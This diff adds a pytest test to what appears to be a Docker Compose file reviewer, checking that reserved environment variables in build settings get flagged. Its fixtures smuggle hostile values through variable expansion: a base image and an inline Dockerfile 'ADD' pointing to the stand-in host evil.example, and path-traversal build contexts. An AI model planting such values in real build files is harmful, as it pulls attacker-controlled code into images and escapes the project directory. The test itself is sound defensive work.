@@ -143,6 +143,21 @@ def test_a_variable_that_is_not_the_same_at_the_bring_up_chooses_nothing(name: s
     assert "variable-reserved" in rules(case.review(tmp_path))
 
 
+@pytest.mark.parametrize(
+    "build",
+    [
+        "{context: ., args: {BASE: '${TERM:+evil.example/x}'}}",
+        "{context: ., args: ['BASE=${TERM:-alpine}']}",
+        '{context: ., dockerfile_inline: "FROM alpine${TERM:+\\nADD http://evil.example/x /x}\\n"}',
+        "{context: '.${TERM:+/../..}'}",
+        "'.${TERM:+/../..}'",
+    ],
+)
+def test_nor_does_it_choose_what_is_built(build: str, tmp_path: Path) -> None:
+    case = Case(services(f"a: {{build: {build}}}"), files={"Dockerfile": "ARG BASE=alpine\nFROM $BASE\n"})
+    assert "variable-reserved" in rules(case.review(tmp_path))
+
+
 @pytest.mark.parametrize("name", RESERVED)
 def test_nor_does_it_by_way_of_an_env_file(name: str, tmp_path: Path) -> None:
     files = {".env": f"X=${{{name}:+/../../../../..}}\n"}
